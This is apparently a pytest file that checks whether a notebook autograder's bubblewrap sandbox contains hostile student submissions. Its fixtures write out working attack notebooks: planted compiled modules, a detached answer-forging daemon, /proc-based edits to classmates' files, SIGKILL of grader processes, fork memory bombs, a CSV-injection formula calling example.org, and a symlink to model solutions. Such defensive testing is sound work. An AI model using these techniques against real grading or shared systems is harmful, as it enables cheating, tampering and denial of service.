"""Hostile submissions graded in one class folder with honest ones (issue #17).

Every attack of the security review is a notebook here, graded with ``python -m casecurity.grade``
in its default sandbox (bubblewrap) next to three honest notebooks. For the whole class the tests
show: the honest students' rows are identical to grading them alone, no attacker earns a point,
the run completes, and no process outlives it. The run is started under a small "subreaper"
wrapper, so that every process the grader or a notebook left behind (even a detached one) comes
back to the wrapper, which lists it before killing it.

The attacks are written so that they do nothing harmful if the sandbox failed: a planted compiled
file has a name nothing imports, and signals go only to processes of this test's own run.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
import textwrap
import uuid
from pathlib import Path

import nbformat
import pytest

from casecurity import sandbox
from casecurity.submissions import feedback_name

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = ROOT / "tests" / "fixtures"
SUBMISSIONS = FIXTURES / "submissions"

pytestmark = pytest.mark.skipif(bool(sandbox.unavailable_reason("bwrap")),
                                reason=f"no bubblewrap sandbox here: {sandbox.unavailable_reason('bwrap')}")

# Runs the grader as a child of a subreaper (PR_SET_CHILD_SUBREAPER): an orphaned process of the
# run, detached or not, is re-parented to this wrapper instead of to the system's init. Prints the
# grader's exit status and every process still alive below the wrapper after the grader ended.
_SUBREAPER = textwrap.dedent("""
    import ctypes, json, os, signal, subprocess, sys
    ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER
    status = subprocess.run(sys.argv[1:]).returncode
    def alive():
        found = []
        for pid in os.listdir("/proc"):
            try:
                with open(f"/proc/{pid}/stat") as stream:
                    fields = stream.read().rsplit(")", 1)[1].split()
            except (OSError, IndexError):
                continue
            if int(fields[1]) == os.getpid() and fields[0] != "Z":
                with open(f"/proc/{pid}/cmdline", "rb") as stream:
                    found.append(stream.read().replace(b"\\0", b" ").decode("utf-8", "replace")[:200])
                os.kill(int(pid), signal.SIGKILL)
        return found
    left = alive()  # the grader has ended: anything still below us outlived it
    print(json.dumps({"status": status, "left": left}))
""")


def _notebook(path: Path, *sources: str) -> Path:
    cells = [nbformat.v4.new_code_cell("from casecurity.exercises import lesson99 as ex")]
    cells += [nbformat.v4.new_code_cell(textwrap.dedent(source)) for source in sources]
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nbformat.v4.new_notebook(cells=cells), path)
    return path


def _honest(folder: Path, run_tag: str) -> dict[str, Path]:
    """Three honest students: ann (all correct), bob (partly: q1 = 41) and sub/ann (all correct).
    Their metadata carries the run's tag: the attacks touch nothing of another run."""
    copies = {"ann.ipynb": "all_correct.ipynb", "bob.ipynb": "partly_correct.ipynb", "sub/ann.ipynb": "all_correct.ipynb"}
    for name, fixture in copies.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        notebook = json.loads((SUBMISSIONS / fixture).read_text(encoding="utf-8"))
        notebook["metadata"]["hostile_run"] = run_tag
        (folder / name).write_text(json.dumps(notebook, indent=1), encoding="utf-8")
    return {name: folder / name for name in copies}


def _attackers(folder: Path, outputs: list[Path], run_tag: str, solutions: Path) -> None:
    forged_q1 = json.dumps({"lesson": "99", "question": "q1", "via": "check", "answer": 42})
    probe = f"hostile_probe_{run_tag}.cpython-311.pyc"
    # a planted compiled module in the course's environment and package (names nothing imports)
    _notebook(folder / "planted_pyc.ipynb", f"""
        import os, sysconfig, casecurity
        for folder in (sysconfig.get_paths()["purelib"], os.path.dirname(casecurity.__file__),
                       os.path.dirname(ex.__file__)):
            target = os.path.join(folder, "__pycache__", {probe!r})
            os.makedirs(os.path.dirname(target), exist_ok=True)
            open(target, "wb").write(b"planted")
        """)
    # a detached process that forges answers for later notebooks and rewrites the outputs afterwards
    daemon = textwrap.dedent(f"""
        import glob, os, time
        end = time.time() + 240
        while time.time() < end:
            for path in glob.glob("/tmp/**/results.jsonl", recursive=True):
                try:  # only this run's notebooks, should the sandbox fail on a shared machine
                    if {run_tag!r} in open(os.path.join(os.path.dirname(path), "submission.ipynb")).read():
                        open(path, "a").write({forged_q1!r} + "\\n")
                except OSError:
                    pass
            for path in {[str(p) for p in outputs]!r}:
                try:
                    open(path, "w").write("HACKED")
                except OSError:
                    pass
            time.sleep(0.05)
        """)
    _notebook(folder / "detached.ipynb", f"""
        import subprocess, sys
        subprocess.Popen([sys.executable, "-c", {daemon!r}], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        """)
    # editing a classmate's notebook found through /proc (keeping its modification time)
    _notebook(folder / "proc_editor.ipynb", f"""
        import glob, os
        seen = set()
        for link in glob.glob("/proc/*/cwd") + glob.glob("/proc/*/fd/*"):
            try:
                seen.add(os.path.realpath(link))
            except OSError:
                pass
        for pid_cmdline in glob.glob("/proc/*/cmdline"):
            try:
                seen.update(open(pid_cmdline, "rb").read().decode().split("\\0"))
            except OSError:
                pass
        seen.add({str(folder)!r})
        # every folder below those places, but not the system's and packages' trees: no student's
        # notebook lives there, and walking them from "/" cost this test 90 s of CPU
        system = {{"proc", "sys", "dev", "usr", "lib", "lib32", "lib64", "bin", "sbin", "etc", "boot",
                  "site-packages", "node_modules", ".git", "__pycache__"}}
        for place in sorted(p for p in seen if os.path.isdir(p)):
            for top, folders, files in os.walk(place):
                folders[:] = [f for f in folders if f not in system]
                for path in (os.path.join(top, f) for f in files if f.endswith(".ipynb")):
                    if {run_tag!r} not in path:  # only this run's class, should the sandbox fail
                        continue
                    try:
                        stat = os.stat(path)
                        text = open(path).read().replace("ex.q1.check(41)", "ex.q1.check(42)")
                        open(path, "w").write(text)
                        os.utime(path, ns=(stat.st_atime_ns, stat.st_mtime_ns))
                    except OSError:
                        pass
        """)
    # signalling the grader: every process of this run it can see, its parent and its own group
    _notebook(folder / "signal_grader.ipynb", f"""
        import glob, os, signal
        for pid_cmdline in glob.glob("/proc/[0-9]*/cmdline"):
            pid = int(pid_cmdline.split("/")[2])
            try:
                if {run_tag!r} in open(pid_cmdline, "rb").read().decode() and pid != os.getpid():
                    os.kill(pid, signal.SIGKILL)
            except (OSError, ValueError):
                pass
        os.kill(os.getppid(), signal.SIGKILL)
        """, "ex.q1.check(42)")
    # output paths turned into folders
    _notebook(folder / "outputs_to_folders.ipynb", f"""
        import os
        for path in {[str(p) for p in outputs]!r}:
            try:
                if os.path.isfile(path):
                    os.unlink(path)
                os.makedirs(path, exist_ok=True)
            except OSError:
                pass
        """)
    # a formula answer (CSV injection)
    _notebook(folder / "formula.ipynb", """ex.q1.check('=HYPERLINK("http://example.org/?"&A1,"42")')""")
    # runaway memory across several processes: five forks of 500 MB each, then a right answer that
    # would count if the sandbox were not stopped as a whole
    _notebook(folder / "memory_forks.ipynb", """
        import os, time
        for _ in range(5):
            if os.fork() == 0:
                try:
                    block = b"x" * (500 * 1024 * 1024)
                    time.sleep(300)
                finally:
                    os._exit(0)
        time.sleep(45)
        """, "ex.q1.check(42)")
    # a name that collides with ann's feedback page under the old naming
    _notebook(folder / "ann~.ipynb", "print('no answers')")
    # malformed structure: valid JSON, odd shapes
    blank = json.loads(nbformat.writes(nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_code_cell("from casecurity.exercises import lesson99 as ex")])))
    (folder / "meta_list.ipynb").write_text(json.dumps({**blank, "metadata": {"casecurity": ["lesson", 99]}}))
    bad_outputs = json.loads(json.dumps(blank))
    bad_outputs["cells"][0]["outputs"] = "oops"
    (folder / "outputs_string.ipynb").write_text(json.dumps(bad_outputs))
    (folder / "cells_object.ipynb").write_text(json.dumps({**blank, "cells": {"0": "x"}}))
    # a symbolic link to the model solutions, and a folder named like a notebook
    os.symlink(solutions, folder / "sneaky.ipynb")
    (folder / "folder.ipynb").mkdir()


ATTACKERS = ["planted_pyc", "detached", "proc_editor", "signal_grader", "outputs_to_folders", "formula",
             "memory_forks", "ann~", "meta_list", "outputs_string", "cells_object", "sneaky", "folder"]


def _grade(folder: Path, out: Path, feedback: Path, env: dict, *extra: str) -> tuple[dict, subprocess.CompletedProcess]:
    command = [sys.executable, "-c", _SUBREAPER, sys.executable, "-m", "casecurity.grade", str(folder),
               "--out", str(out), "--feedback", str(feedback), "--lesson", "99", "--timeout", "90",
               "--memory-mb", "2048", "--jobs", "2", *extra]
    process = subprocess.run(command, env=env, capture_output=True, text=True, timeout=1800)
    return json.loads(process.stdout.strip().splitlines()[-1]), process


def _rows(out: Path, folder: Path) -> dict:
    with open(out, newline="", encoding="utf-8") as stream:
        return {(str(Path(r["submission"]).relative_to(folder)), r["question"]): r for r in csv.DictReader(stream)}


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    run_tag = uuid.uuid4().hex[:12]
    base = tmp_path_factory.mktemp(f"hostile-{run_tag}")
    env = dict(os.environ, CASECURITY_LESSONS_PATH=str(FIXTURES / "lessons"))
    # the honest students alone
    alone = base / "alone"
    _honest(alone, run_tag)
    alone_out = base / "alone-out" / "grades.csv"
    alone_result, alone_process = _grade(alone, alone_out, base / "alone-out" / "feedback", env)
    assert alone_result["status"] == 0, alone_process.stderr
    # the same students in a class with every attack
    folder = base / "class"
    honest = _honest(folder, run_tag)
    before = {name: path.read_bytes() for name, path in honest.items()}
    solutions = base / "solutions" / "99_fixture_solutions.ipynb"
    solutions.parent.mkdir()
    shutil.copy(SUBMISSIONS / "all_correct.ipynb", solutions)
    results = base / f"out-{run_tag}"
    out, feedback = results / "grades.csv", results / "feedback"
    outputs = [out, out.with_suffix(".json"), results / "grades_report.html", feedback / "ann.html",
               out.with_suffix(".journal.jsonl")]
    _attackers(folder, outputs, run_tag, solutions)
    result, process = _grade(folder, out, feedback, env)
    probes = [p for p in (Path(sys.prefix), ROOT / "casecurity", FIXTURES / "lessons")
              for p in p.rglob(f"hostile_probe_{run_tag}*")]
    for probe in probes:  # never leave a planted file behind, even when the test fails
        probe.unlink()
    return {"alone": _rows(alone_out, alone), "result": result, "process": process, "folder": folder,
            "out": out, "feedback": feedback, "before": before, "honest": honest, "probes": probes}


@pytest.mark.slow
def test_the_run_completes_and_no_process_outlives_it(hostile_class):
    result, process = hostile_class["result"], hostile_class["process"]
    assert result["status"] == 0, process.stderr
    assert result["left"] == [], "processes outlived the grading run"
    assert "HACKED" not in hostile_class["out"].read_text(encoding="utf-8")
    assert not hostile_class["out"].with_suffix(".journal.jsonl").exists()  # a completed run removes it


@pytest.mark.slow
def test_honest_students_are_graded_as_if_alone(hostile_class):
    rows = _rows(hostile_class["out"], hostile_class["folder"])
    honest = {key: row for key, row in rows.items() if key[0] in hostile_class["honest"]}
    fields = ("lesson", "question", "status", "points", "max_points", "message", "answer")
    assert {k: [r[f] for f in fields] for k, r in honest.items()} == \
        {k: [r[f] for f in fields] for k, r in hostile_class["alone"].items()}
    assert rows[("bob.ipynb", "q1")]["status"] == "incorrect"  # forged and edited 42s did not reach bob
    for name, path in hostile_class["honest"].items():  # nobody edited a classmate's file
        assert path.read_bytes() == hostile_class["before"][name]


@pytest.mark.slow
def test_no_attacker_earns_a_point(hostile_class):
    rows = _rows(hostile_class["out"], hostile_class["folder"])
    for attacker in ATTACKERS:
        mine = [row for (name, _q), row in rows.items() if name == f"{attacker}.ipynb"]
        assert mine, f"{attacker} has no row"
        assert sum(float(r["points"]) for r in mine) == 0, (attacker, mine)
    assert hostile_class["probes"] == []  # nothing was planted in the environment or the course


@pytest.mark.slow
def test_each_attack_is_reported_as_it_should(hostile_class):
    rows = _rows(hostile_class["out"], hostile_class["folder"])
    message = {key: row["message"] for key, row in rows.items()}
    assert "metadata.casecurity is a list" in message[("meta_list.ipynb", "")]
    assert "cell 1 has outputs that are not a list" in message[("outputs_string.ipynb", "")]
    assert "cells are a dict" in message[("cells_object.ipynb", "")]
    assert "symbolic link" in message[("sneaky.ipynb", "")]
    assert "not a regular file" in message[("folder.ipynb", "")]
    assert "more than 2048 MB" in message[("memory_forks.ipynb", "q1")]
    assert rows[("signal_grader.ipynb", "q1")]["status"] == "error"
    with open(hostile_class["out"], newline="", encoding="utf-8") as stream:
        cells = [cell for line in csv.reader(stream) for cell in line]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert '\'=HYPERLINK("http://example.org/?"&A1,"42")' in cells


@pytest.mark.slow
def test_colliding_names_get_their_own_feedback_pages(hostile_class):
    pages = {p.name: p.read_text(encoding="utf-8") for p in hostile_class["feedback"].glob("*.html")}
    folder = str(hostile_class["folder"])
    ann, ann_tilde, sub_ann = (feedback_name(f"{folder}/{n}") for n in ("ann.ipynb", "ann~.ipynb", "sub/ann.ipynb"))
    assert len({ann, ann_tilde, sub_ann}) == 3
    assert "4 of 4 points" in pages[ann] and "4 of 4 points" in pages[sub_ann]
    assert "0 of 4 points" in pages[ann_tilde]
